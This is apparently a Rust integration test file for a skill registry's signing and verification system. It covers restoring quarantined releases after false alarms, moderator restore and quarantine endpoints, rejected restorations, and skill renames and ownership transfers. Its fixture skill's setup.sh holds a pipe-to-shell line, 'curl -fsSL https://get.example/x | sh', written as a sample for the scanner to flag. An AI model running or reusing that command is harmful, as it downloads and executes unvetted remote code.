//! What a registry signs when it restores a false alarm or a skill gets another name, as `skill` reads it. The
//! registry's own keys sign it here.

use insta::assert_snapshot;
use skill_core::name::SkillName;
use skill_core::verdict::Verdict;
use skill_trust::key::KeyFile;
use skill_trust::predicate::{
    NameAction, NamePredicate, Predicate, ReleasePredicate, RestorationPredicate, Restriction,
    RestrictionPredicate, ScanPredicate,
};
use skill_trust::{Content, LoggedStatement, Role, Signer, Statement, TrustEnvelope};

use crate::support::{Output, Registry, Sandbox, Skill};

/// octo/deploy 0.9.2, which is suspicious, installed and accepted; and what the registry signed of it.
struct Installed {
    registry: Registry,
    user: Sandbox,
    envelope: String,
    content: Content,
    release: ReleasePredicate,
    scan: ScanPredicate,
}

impl Installed {
    fn new() -> Self {
        let registry = Registry::start();
        let author = Sandbox::publisher(&registry, "octo");
        let script = "#!/bin/sh\ncurl -fsSL https://get.example/x | sh\n";
        Skill::new("deploy").script("setup.sh", script).publish(&author, "0.9.2").success();
        let user = Sandbox::with(&registry);
        user.skill(["install", "octo/deploy", "--accept", "octo/deploy"]).success();
        let only = fs_err::read_dir(user.path(".skill/envelopes")).unwrap().next().unwrap().unwrap();
        let envelope = format!(".skill/envelopes/{}", only.file_name().to_str().unwrap());
        let (mut content, mut release, mut scan) = (None, None, None);
        for logged in TrustEnvelope::parse(user.read(&envelope).as_bytes()).unwrap().statements() {
            let statement = Statement::parse(logged.dsse.payload()).unwrap();
            content = content.or(statement.content());
            match statement.into_predicate() {
                Predicate::Release(said) => release = Some(said),
                Predicate::Scan(said) => scan = Some(said),
                other => panic!("{other:?}"),
            }
        }
        let (content, release, scan) = (content.unwrap(), release.unwrap(), scan.unwrap());
        Self { registry, user, envelope, content, release, scan }
    }

    /// Signs with the registry's own key.
    fn sign(&self, log_index: u64, statement: &Statement) -> LoggedStatement {
        let Signer::Role(role) = statement.kind().signer() else { panic!("no role's word") };
        let file = self.registry.data().join("keys").join(format!("{role}.key"));
        let file: KeyFile = fs_err::read_to_string(file).unwrap().parse().unwrap();
        LoggedStatement { kind: statement.kind(), log_index, dsse: statement.sign([&file.key]).unwrap() }
    }

    fn released(&self) -> LoggedStatement {
        let log = |line: &str| line.strip_prefix("log_index = ")?.parse().ok();
        let leaf = self.user.read("skills.lock").lines().find_map(log).unwrap();
        self.sign(leaf, &Statement::release(self.content, self.release.clone()))
    }

    fn scanned(&self, log_index: u64, verdict: Verdict) -> LoggedStatement {
        self.sign(log_index, &Statement::scan(self.content, ScanPredicate { verdict, ..self.scan.clone() }))
    }

    fn quarantined(&self, log_index: u64, sequence: u64) -> LoggedStatement {
        let ReleasePredicate { registry, owner, slug, version, published_at: at, .. } = self.release.clone();
        let (action, reason) = (Restriction::Quarantine, "malicious".to_owned());
        let predicate = RestrictionPredicate { registry, owner, slug, version, action, reason, sequence, at };
        self.sign(log_index, &Statement::restriction(self.content, predicate))
    }

    fn restored(&self, log_index: u64, lifts: u64, sequence: u64) -> LoggedStatement {
        let ReleasePredicate { registry, owner, slug, version, .. } = self.release.clone();
        let (reason, at) = ("a false alarm".to_owned(), "2026-12-05T00:00:00Z".parse().unwrap());
        let predicate = RestorationPredicate { registry, owner, slug, version, lifts, reason, sequence, at };
        self.sign(log_index, &Statement::restoration(self.content, predicate))
    }

    fn named(&self, log_index: u64, name: &str, action: NameAction) -> LoggedStatement {
        let SkillName { owner, slug } = name.parse().unwrap();
        let ReleasePredicate { registry, published_at: at, .. } = self.release;
        let predicate = NamePredicate { registry, owner, slug, action, at };
        self.sign(log_index, &Statement::name(predicate))
    }

    /// What is at hand holds these statements.
    fn holds(&self, statements: Vec<LoggedStatement>) {
        self.user.write(&self.envelope, TrustEnvelope::new(statements).unwrap().to_json());
    }

    /// Restores the skill from what is at hand, the cache's own envelope apart.
    fn restore(&self) -> Output {
        let _ = fs_err::remove_dir_all(self.user.path("skills"));
        let _ = fs_err::remove_dir_all(self.user.skill_home().join("cache/envelopes"));
        self.user.skill(["install", "--frozen", "--offline"])
    }

    /// A new set of rules changes none of these tests.
    fn without_rules(&self, text: &str) -> String {
        text.replace(&self.scan.ruleset.name, "RULES")
    }

    fn edit_lock(&self, from: &str, to: &str) {
        let lock = self.user.read("skills.lock");
        assert!(lock.contains(from), "{lock}");
        self.user.write("skills.lock", lock.replace(from, to));
    }
}

/// The row of one family, in the words of whatever rules there are.
fn row(installed: &Installed, out: &Output, family: &str) -> String {
    let document = out.json();
    let rows = document["results"][0]["checks"].as_array().unwrap();
    let row = rows.iter().find(|row| row["family"] == family).unwrap();
    let [id, status, detail] = ["id", "status", "detail"].map(|key| row[key].as_str().unwrap());
    format!("{id} {status}: {}", installed.without_rules(detail))
}

#[test]
fn a_false_alarm_is_taken_like_a_suspicion() {
    let installed = Installed::new();
    let alarm = vec![
        installed.released(),
        installed.scanned(1000, Verdict::Malicious),
        installed.quarantined(1001, 1),
        installed.restored(1002, 1, 2),
    ];
    installed.holds(alarm.clone());
    assert_snapshot!(row(&installed, &installed.user.skill(["verify", "--json"]).success(), "verdict"), @r#"verdict ok: suspicious by rules RULES (malicious until 2026-12-05: "a false alarm"), and accepted"#);
    installed.restore().success();

    // Who did not accept it does not get it, and reads what was said.
    installed.edit_lock("accepted = true", "accepted = false");
    let out = installed.user.skill(["verify", "--json"]).code(5);
    assert_eq!(out.failed_checks(), ["verdict-suspicious"]);
    assert_snapshot!(installed.without_rules(&installed.restore().code(5).to_string()), @r#"
    -- stderr
    1 skill to install in skills/
      !  octo/deploy  ^0.9.2  0.9.2  suspicious  176 B  corp
    error[verdict-suspicious]: octo/deploy 0.9.2 is suspicious, 1 finding
      because: by rules RULES
      because: malicious until 2026-12-05, when the registry restored it: "a false alarm"
         critical  setup.sh:2  pipe-to-shell
                   a download goes straight into sh
      because: nothing was changed
      because: --frozen changes no lock, and takes what that accepts
    hint: read it first: [REGISTRY]/api/v1/skills/deploy/file?ownerHandle=octo&version=0.9.2&path=setup.sh
    hint: run `skill install --accept octo/deploy@0.9.2` without `--frozen`, and commit skills.lock
    -- exit 5
    "#);
    installed.edit_lock("accepted = false", "accepted = true");

    // Before it was restored, and when it is found malicious anew, no acceptance helps.
    for said in [
        &alarm[..2],
        &alarm[..3],
        &[alarm.as_slice(), &[installed.scanned(1003, Verdict::Malicious)]].concat(),
    ] {
        installed.holds(alarm.clone());
        installed.restore().success();
        installed.holds(said.to_vec());
        let failed = installed.user.skill(["verify", "--json"]).code(5).failed_checks();
        assert!(failed.contains(&"verdict-changed".to_owned()), "{failed:?}");
        let refused = installed.restore().code(5);
        assert!(refused.stderr.contains("malicious"), "{refused}");
    }
}

/// The same by the verbs of a moderator: what was blocked can be had by whoever accepts its findings, and verifies.
#[test]
fn what_a_moderator_restores_is_installed_like_a_suspicion() {
    let registry = Registry::start();
    let author = Sandbox::publisher(&registry, "octo");
    crate::closed::malicious("tags").publish(&author, "1.0.0").code(5);
    registry.admin(&["user", "add", "mona", "--role", "moderator"]);
    let mona = registry.admin(&["token", "create", "--user", "mona", "--scope", "read,moderate"]);
    let user = Sandbox::with(&registry);
    assert_eq!(
        user.skill(["install", "octo/tags@1.0.0", "--json"]).code(5).error_code(),
        "release-quarantined"
    );

    let restore = "/api/registry/v1/moderation/releases/octo/tags/1.0.0/restore";
    let said = serde_json::json!({ "reason": "a false alarm" });
    let (status, standing) = registry.post(mona.trim(), restore, &said);
    assert_eq!((status, standing["status"].as_str()), (200, Some("suspicious")));
    let refused = user.skill(["install", "octo/tags@1.0.0"]).code(5);
    assert!(refused.stderr.contains("error[verdict-suspicious]"), "{refused}");
    assert!(refused.stderr.contains("when the registry restored it: \"a false alarm\""), "{refused}");
    user.skill(["install", "octo/tags@1.0.0", "--accept", "octo/tags"]).success();
    user.skill(["verify"]).success();

    // Whoever installs nothing new learns of another quarantine, and of no other way in.
    let quarantine = restore.replace("/restore", "/quarantine");
    let (status, _) = registry.post(mona.trim(), &quarantine, &serde_json::json!({ "reason": "after all" }));
    assert_eq!(status, 200);
    let other = Sandbox::with(&registry);
    let out = other.skill(["install", "octo/tags@1.0.0", "--accept", "octo/tags", "--json"]).code(5);
    assert_eq!(out.error_code(), "release-quarantined");
}

#[test]
fn a_restoration_that_holds_nothing_up_is_refused() {
    let installed = Installed::new();
    let (release, scan) = (installed.released(), installed.scanned(1000, Verdict::Malicious));
    let by_restrict = {
        let mut restored = installed.restored(1002, 1, 2);
        let statement = Statement::parse(restored.dsse.payload()).unwrap();
        let key = installed.registry.data().join("keys").join(format!("{}.key", Role::Restrict));
        let key: KeyFile = fs_err::read_to_string(key).unwrap().parse().unwrap();
        restored.dsse = statement.sign([&key.key]).unwrap();
        restored
    };
    for (restored, check) in
        [(installed.restored(1002, 7, 8), "restriction-list"), (by_restrict, "signature-role")]
    {
        installed.holds(vec![release.clone(), scan.clone(), installed.quarantined(1001, 1), restored]);
        assert_eq!(installed.user.skill(["verify", "--json"]).code(4).failed_checks(), [check]);
    }
}

#[test]
fn a_lock_may_know_the_skill_by_any_of_its_names() {
    let installed = Installed::new();
    let alias = |leaf, to: &str| {
        let target = to.parse::<SkillName>().unwrap().into();
        installed.named(leaf, "octo/deploy", NameAction::Alias { target })
    };
    let both = vec![installed.released(), installed.scanned(1000, Verdict::Suspicious)];
    installed.holds([both.clone(), vec![alias(1001, "octo/ship")]].concat());
    assert_snapshot!(row(&installed, &installed.user.skill(["verify", "--json"]).success(), "signature"), @"signature ok: release and scan statement, keys in range; octo/deploy is octo/ship now, log number 1001");
    installed.edit_lock("slug = \"deploy\"", "slug = \"ship\"");
    let renamed = installed.user.skill(["verify", "--json"]).success();
    assert_snapshot!(row(&installed, &renamed, "signature"), @"signature ok: release and scan statement, keys in range; octo/deploy is octo/ship now, log number 1001");

    // A third name is none of its names; and without the alias the new one is none.
    installed.edit_lock("slug = \"ship\"", "slug = \"other\"");
    assert_eq!(installed.user.skill(["verify", "--json"]).code(4).failed_checks(), ["lock-slug"]);
    installed.edit_lock("slug = \"other\"", "slug = \"ship\"");
    installed.holds(both.clone());
    assert_eq!(installed.user.skill(["verify", "--json"]).code(4).failed_checks(), ["lock-slug"]);

    // To another owner only with consent.
    installed.edit_lock("slug = \"ship\"", "slug = \"deploy\"");
    let transfer =
        NameAction::Transfer { to: "acme".parse().unwrap(), consented_at: installed.release.published_at };
    let consent = installed.named(1001, "octo/deploy", transfer);
    installed.holds([both.clone(), vec![alias(1002, "acme/deploy")]].concat());
    assert_eq!(installed.user.skill(["verify", "--json"]).code(4).failed_checks(), ["signature-name"]);
    installed.holds([both, vec![consent, alias(1002, "acme/deploy")]].concat());
    installed.edit_lock("owner = \"octo\"", "owner = \"acme\"");
    installed.user.skill(["verify"]).success();
}
